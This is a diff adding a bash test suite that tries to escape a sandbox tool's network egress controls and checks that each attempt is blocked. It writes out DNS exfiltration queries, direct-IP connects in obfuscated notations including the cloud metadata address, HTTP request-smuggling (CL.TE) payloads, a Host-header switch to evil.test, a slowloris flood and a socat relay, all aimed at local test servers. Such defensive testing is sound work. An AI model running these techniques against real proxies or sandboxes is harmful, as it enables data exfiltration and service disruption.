@@ -1,0 +1,217 @@
+#!/bin/bash
+# tests/escape/net-egress.sh — attacks on the egress path. Every test states the attack in its
+# name and asserts both that it was blocked (fast) and that the upstream servers' own logs
+# (tests/integration/net-upstreams.py, on host loopback) saw nothing they must not.
+# "The host resolver never saw a denied name" is asserted by tracing the paddock process
+# (the supervisor runs in it for run --rm) with strace: it must send nothing to any port 53
+# and call connect() only for the upstreams the test allowed.
+. "$(dirname "$0")/../lib.sh"
+. "$(dirname "$0")/../integration/net-lib.sh"
+
+PY="python3 -c"
+allow_up() { echo "--allow up.test:$HTTP_PORT --allow tls.test:$HTTPS_PORT --resolve up.test=127.0.0.1 --resolve tls.test=127.0.0.1"; }
+no_upstream_hits() { assert_eq "$(net_uplog http)$(net_uplog https)$(net_uplog echo)" "" "an upstream saw traffic"; }
+fast() { # fast MAX_MS CMD...: CMD finishes within MAX_MS (whatever its status)
+	local max=$1 t0; shift
+	t0=$(date +%s%N)
+	"$@" || true
+	[ $(( ($(date +%s%N) - t0) / 1000000 )) -lt "$max" ] || fail "took more than $max ms: $*"
+}
+
+# a DNS query for NAME/QTYPE sent from inside the box straight to the box's DNS server; prints the rcode
+DNSQ='
+import socket, struct, sys
+name, qtype = sys.argv[1], int(sys.argv[2])
+q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+for l in name.split("."):
+    q += bytes([len(l)]) + l.encode()
+q += b"\0" + struct.pack(">HH", qtype, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
+s.sendto(q, (sys.argv[3] if len(sys.argv) > 3 else "198.19.0.3", 53))
+try:
+    r = s.recv(600); print(r[3] & 15)
+except OSError:
+    print("timeout")
+'
+
+t_dns_exfiltration_denied_names_never_leave() {
+	net_uplog_clear
+	local out long
+	long=$(printf 'a%.0s' $(seq 63))
+	out=$(strace -f -qq -e trace=connect,sendto,sendmsg -o "$PADDOCK_HOME/trace" "$PADDOCK" run --rm -- sh -c "
+		$PY '$DNSQ' secret.denied.test 1; $PY '$DNSQ' secret.denied.test 16;
+		$PY '$DNSQ' $long.$long.exfil.test 1; $PY '$DNSQ' s3cr3t.denied.test 28")
+	assert_eq "$(echo $out)" "3 3 3 3" "NXDOMAIN for A, TXT, long labels, AAAA"
+	# strace -f also follows the box's processes, whose packets go to the box's own DNS
+	# (198.19.0.3): anything else to a port 53, or any inet connect() of paddock, is a leak
+	grep -v 'inet_addr("198.19.0.3")' "$PADDOCK_HOME/trace" >"$PADDOCK_HOME/trace.host" || true
+	if grep -E 'sin_port=htons\(53\)|sin6_port=htons\(53\)' "$PADDOCK_HOME/trace.host"; then fail "a DNS packet left paddock"; fi
+	if grep -E 'connect\(.*AF_INET' "$PADDOCK_HOME/trace.host"; then fail "paddock dialled something"; fi
+	no_upstream_hits
+}
+t_dns_txt_of_an_allowed_name_is_refused() {
+	assert_eq "$(pd_run $(allow_up) -- $PY "$DNSQ" up.test 16)" "5"
+}
+t_udp53_to_an_outside_resolver_goes_nowhere() {
+	assert_eq "$(pd_run -- $PY "$DNSQ" example.com 1 8.8.8.8)" "timeout"
+	assert_eq "$(pd_run -- $PY "$DNSQ" example.com 1 198.19.0.1)" "timeout"
+}
+t_direct_ip_connects_in_every_notation_fail_fast() {
+	net_uplog_clear
+	local t
+	for t in 127.0.0.1 2130706433 0x7f000001 0177.0.0.1 127.1 '[::1]' '[::ffff:127.0.0.1]' 10.0.2.2 \
+		198.19.0.1 198.19.0.2 198.19.0.3 169.254.169.254 198.18.0.1 198.18.255.254; do
+		fast 2000 pd_run $(allow_up) -- curl -sS -m 5 --noproxy '*' -g "http://$t:$HTTP_PORT/" >/dev/null 2>&1
+		if pd_run $(allow_up) -- curl -sS -m 5 --noproxy '*' -g "http://$t:$HTTP_PORT/" >/dev/null 2>&1; then
+			fail "reached $t"
+		fi
+	done
+	no_upstream_hits
+}
+t_host_loopback_and_gateway_ports_are_closed() {
+	local out
+	out=$(pd_run -- $PY '
+import socket
+res = []
+for a, p in [("198.19.0.1", 22), ("198.19.0.1", 80), ("198.19.0.1", 3128), ("198.19.0.2", 80), ("198.19.0.3", 80), ("169.254.169.254", 80)]:
+    s = socket.socket(); s.settimeout(2)
+    try:
+        s.connect((a, p)); res.append("open")
+    except ConnectionRefusedError:
+        res.append("refused")
+    except OSError as e:
+        res.append("err")
+print(" ".join(res))')
+	assert_eq "$out" "refused refused refused refused refused refused"
+}
+t_icmp_and_raw_and_packet_sockets_are_refused() {
+	local out
+	out=$(pd_run --user root -- $PY '
+import socket
+r = []
+for fam, typ, proto in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP), (socket.AF_PACKET, socket.SOCK_RAW, 0)]:
+    try:
+        socket.socket(fam, typ, proto); r.append("open")
+    except OSError:
+        r.append("refused")
+print(" ".join(r))')
+	assert_eq "$out" "refused refused refused"
+}
+t_allowed_name_that_really_resolves_to_loopback_is_not_dialled() {
+	net_uplog_clear
+	local rc=0
+	# "localhost" is allowed by an explicit rule but resolves (on the host) to 127.0.0.1, and
+	# no --resolve says so: the dialler refuses loopback
+	fast 2000 pd_run --allow localhost:$HTTP_PORT -- curl -sS -m 5 --noproxy '*' http://localhost.:$HTTP_PORT/ >/dev/null 2>&1
+	pd_run --allow localhost:$HTTP_PORT -- curl -sS -m 5 http://localhost:$HTTP_PORT/x >/dev/null 2>&1 || rc=$?
+	assert_ne "$rc" 0
+	no_upstream_hits
+}
+t_sni_mismatch_and_missing_sni_are_refused() {
+	net_uplog_clear
+	local out
+	out=$(pd_run $(allow_up) -v "$NET_DIR/ca.pem:/etc/pd-ca.pem:ro" -- $PY "
+import socket, ssl
+res = []
+for sni in ['other.test', None, 'tls.test']:
+    ctx = ssl.create_default_context(cafile='/etc/pd-ca.pem'); ctx.check_hostname = False
+    s = socket.create_connection(('tls.test', $HTTPS_PORT), 5)
+    try:
+        t = ctx.wrap_socket(s, server_hostname=sni)
+        t.sendall(b'GET /sni-%s HTTP/1.1\r\nHost: tls.test\r\nConnection: close\r\n\r\n' % str(sni).encode())
+        res.append('ok' if b'200' in t.recv(100) else 'bad')
+    except (OSError, ssl.SSLError):
+        res.append('refused')
+print(' '.join(res))")
+	assert_eq "$out" "refused refused ok"
+	assert_not_contains "$(net_uplog https)" "other.test"
+	assert_not_contains "$(net_uplog https)" "sni-None"
+}
+t_host_mismatch_on_keepalive_is_cut() {
+	net_uplog_clear
+	pd_run $(allow_up) -- $PY "
+import socket
+s = socket.create_connection(('up.test', $HTTP_PORT), 5)
+s.sendall(b'GET /first HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\n\r\n')
+s.recv(1000)
+s.sendall(b'GET /second HTTP/1.1\r\nHost: evil.test\r\n\r\n')
+s.settimeout(3)
+try:
+    print(s.recv(1000))
+except OSError:
+    pass
+" >/dev/null
+	assert_contains "$(net_uplog http)" "/first"
+	assert_not_contains "$(net_uplog http)" "/second"
+}
+proxy_send() { # raw bytes (python literal) to the proxy; prints the first response line
+	pd_run $(allow_up) -- $PY "
+import socket
+s = socket.create_connection(('198.19.0.2', 3128), 5)
+s.sendall($1)
+s.settimeout(3)
+try:
+    print(s.recv(4000).split(b'\r\n')[0].decode())
+except OSError:
+    print('closed')
+"
+}
+t_connect_with_a_pipelined_second_request_is_refused() {
+	net_uplog_clear
+	local out
+	out=$(proxy_send "b'CONNECT up.test:$HTTP_PORT HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: up.test\r\n\r\n'")
+	assert_contains "$out" "403"
+	no_upstream_hits
+}
+t_cl_te_smuggling_through_the_proxy_is_refused() {
+	net_uplog_clear
+	local out
+	out=$(proxy_send "b'POST http://up.test:$HTTP_PORT/p HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: up.test\r\n\r\n'")
+	assert_contains "$out" "403"
+	out=$(proxy_send "b'POST http://up.test:$HTTP_PORT/p HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\nContent-Length: 4\r\nContent-Length: 40\r\n\r\nabcd'")
+	assert_contains "$out" "403"
+	out=$(proxy_send "b'POST http://up.test:$HTTP_PORT/p HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n'")
+	assert_contains "$out" "403"
+	# a second request on the same proxy connection for another host: the connection is
+	# refused as a whole (nothing of it is forwarded)
+	out=$(proxy_send "b'GET http://up.test:$HTTP_PORT/ok HTTP/1.1\r\nHost: up.test:$HTTP_PORT\r\n\r\nGET http://denied.test/smuggled HTTP/1.1\r\nHost: denied.test\r\n\r\n'")
+	assert_contains "$out" "403"
+	assert_not_contains "$(net_uplog http)" "smuggled"
+	assert_not_contains "$(net_uplog http)" "/p "
+}
+t_slowloris_1000_idle_connections_other_box_fine_rss_bounded() {
+	pd create $(allow_up) loris >/dev/null
+	local sup rss
+	sup=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["supervisor_pid"])' "$PADDOCK_HOME/boxes/loris/state.json")
+	pd exec loris -- $PY "
+import socket, time, resource
+resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
+ss = []
+for i in range(1000):
+    s = socket.create_connection(('198.19.0.2', 3128), 5); s.sendall(b'GET http://up.test/ HTTP/1.1\r\n'); ss.append(s)
+time.sleep(6)
+" &
+	local bg=$!
+	sleep 4
+	rss=$(awk '/VmRSS/ {print $2}' /proc/$sup/status)
+	echo "supervisor RSS with 1000 idle connections: ${rss} kB" >&2
+	assert_eq "$(pd_run $(allow_up) -- curl -sS -m 5 http://up.test:$HTTP_PORT/other)" "hello from http /other"
+	wait $bg || true
+	[ "$rss" -lt 65536 ] || fail "supervisor RSS ${rss} kB >= 64 MiB"
+	pd rm -f loris >/dev/null
+}
+t_relay_inside_the_box_reaches_nothing() {
+	net_uplog_clear
+	local rc=0
+	pd_run -- sh -c "socat TCP-LISTEN:9000,fork,reuseaddr TCP:127.0.0.1:$HTTP_PORT & sleep 0.3; curl -sS -m 3 http://127.0.0.1:9000/relay" >/dev/null 2>&1 || rc=$?
+	assert_ne "$rc" 0
+	rc=0
+	pd_run -- sh -c "socat TCP-LISTEN:9000,fork,reuseaddr TCP:198.19.0.1:$HTTP_PORT & sleep 0.3; curl -sS -m 3 --noproxy '*' http://127.0.0.1:9000/relay" >/dev/null 2>&1 || rc=$?
+	assert_ne "$rc" 0
+	no_upstream_hits
+}
+
+net_make_ca
+net_start_upstreams
+trap net_stop EXIT
+run_tests
